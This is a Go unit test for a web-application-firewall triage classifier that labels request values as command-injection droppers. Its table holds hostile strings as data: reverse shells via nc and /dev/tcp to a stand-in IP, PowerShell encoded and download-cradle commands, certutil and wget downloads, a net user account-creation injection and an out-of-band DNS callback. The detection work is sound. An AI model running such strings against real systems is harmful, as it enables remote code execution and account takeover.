package triage

import (
	"testing"

	"github.com/modsecurity-for-anylog/msa/engine"
	"github.com/modsecurity-for-anylog/msa/mapping"
)

// Commands that are told from what jobs and texts have by what they do, and by what they stand behind.
func TestDropper(t *testing.T) {
	for value, want := range map[string]bool{
		"cleanup & powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A": true,
		"a|powershell.exe -e SQBFAFgAIAAoAE4AZQB3AC0A":                      true,
		`x"; powershell IEX(New-Object Net.WebClient).DownloadString('x')`:  true,
		"a && certutil -urlcache -split -f http://198.51.100.9/a.exe a.exe": true,
		"127.0.0.1 & net user ann P@ss /add":                                true,
		"127.0.0.1 & cmd /c net user ann P@ss /add":                         true,
		"a | nc 198.51.100.9 4444 -e /bin/sh":                               true,
		"a; ncat 198.51.100.9 4444":                                         true,
		"a.png; wget http://198.51.100.9/x.sh":                              true,
		"$(curl 198.51.100.9/x|sh)":                                         true,
		"10.0.0.1\nbash -c 'bash -i >& /dev/tcp/198.51.100.9/443 0>&1'":     true,
		"a;nslookup x7.oast.fun":                                            true,
		"a||python3 -c 'import socket,subprocess'":                          true,

		"cd /srv && wget http://198.51.100.9/x.tgz":               false, // of a job
		"apk add curl && curl -sSL https://i.example/x.sh | bash": false,
		"make; curl http://10.0.0.7/hook":                         false, // one of its own
		"build && curl -F f=@a https://up.example/":               false,
		"powershell -NoProfile -Command \"Get-Process\"":          false,
		"C:\\a.exe & powershell -File C:\\jobs\\nightly.ps1":      false,
		"try this; nc 198.51.100.9 4444 -e /bin/sh":               false, // in a text
		"nc -e":        false,
		"a & net user": false, // as others, by its weights
		"/search?q=1;wget http://198.51.100.9/x.sh HTTP/1.1 in log": true,
	} {
		if got := isDropper("ARGS:json.job", value); got != want {
			t.Errorf("%q: %v", value, got)
		}
		if isDropper("ARGS:json.script", value) || isDropper("ARGS:comment", value) {
			t.Errorf("%q: in a field for code or text", value)
		}
	}
	const command = "cleanup & powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A"
	v := &engine.Verdict{Matches: []engine.Match{{RuleID: 932120, Phase: 2, Severity: 6, Tags: []string{"attack-rce"}, Places: []engine.Place{{Variable: "ARGS:json.job", Value: command}}}}}
	if a := Appraise(&mapping.Transaction{}, v); a.Confidence != confidenceOfSure || a.Reasons[0] != "a command behind a value fetches a program, connects back or hides what it runs" {
		t.Errorf("%+v", a)
	}
}
